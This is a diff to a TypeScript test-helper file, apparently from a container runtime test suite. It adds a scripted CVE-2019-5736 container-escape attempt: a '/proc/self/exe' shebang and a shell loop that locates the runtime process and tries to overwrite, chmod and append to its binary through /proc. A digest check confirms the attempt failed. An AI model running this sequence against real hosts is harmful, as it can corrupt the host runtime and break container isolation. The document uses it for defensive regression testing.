@@ -12,6 +12,32 @@ export function peerMissing(...programs: string[]): string | undefined {
   return runtimeMissing() ?? (absent === undefined ? undefined : `${absent} is not installed`);
 }
 
+/**
+ * The attack of CVE-2019-5736 for a container of a caller: `evil` is a script that has the runtime's own program executed, which then
+ * waits for its input; `attack` finds it, and tries to change its file. It prints nothing but the file's digest, before and after.
+ */
+export const overwriteRuntime = {
+  evil: "#!/proc/self/exe dump-plan\n",
+  attack: `
+    for i in $(seq 200); do
+      p=$(grep -l 'dump-pla[n]' /proc/[0-9]*/cmdline 2> /dev/null | grep -v self | cut -d/ -f3 | head -n 1)
+      [ -n "$p" ] && break
+      sleep 0.05
+    done
+    exec 5< /proc/$p/exe
+    sha256sum < /proc/$p/exe
+    echo x > /proc/$p/exe && echo WRITTEN
+    chmod 0 /proc/$p/exe && echo CHMODDED
+    kill -9 $p
+    while [ -r /proc/$p/status ] && ! grep -q '^State:.Z' /proc/$p/status; do :; done
+    echo x >> /proc/self/fd/5 && echo APPENDED LATER
+    sha256sum < /proc/self/fd/5
+    exit 0
+  `,
+  /** What the attack prints when it failed. */
+  inVain: /^([0-9a-f]{64}) {2}-\n\1 {2}-\n$/,
+} as const;
+
 /** Limits that this host may not raise are asked for as they are: podman's and buildah's own defaults are higher. */
 export const smallLimits = ["--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1000:1000"];
 
@@ -51,6 +77,11 @@ export class Peer implements AsyncDisposable {
 
   run(argv: readonly string[], input?: string): Promise<CommandResult> {
     return command(argv, { timeoutMs: 40_000, ...(input !== undefined && { input }) });
+  }
+
+  /** The same with a standard input that stays open. */
+  hold(argv: readonly string[]): Bun.Subprocess<"pipe", "ignore", "ignore"> {
+    return Bun.spawn([...argv], { stdin: "pipe", stdout: "ignore", stderr: "ignore" });
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
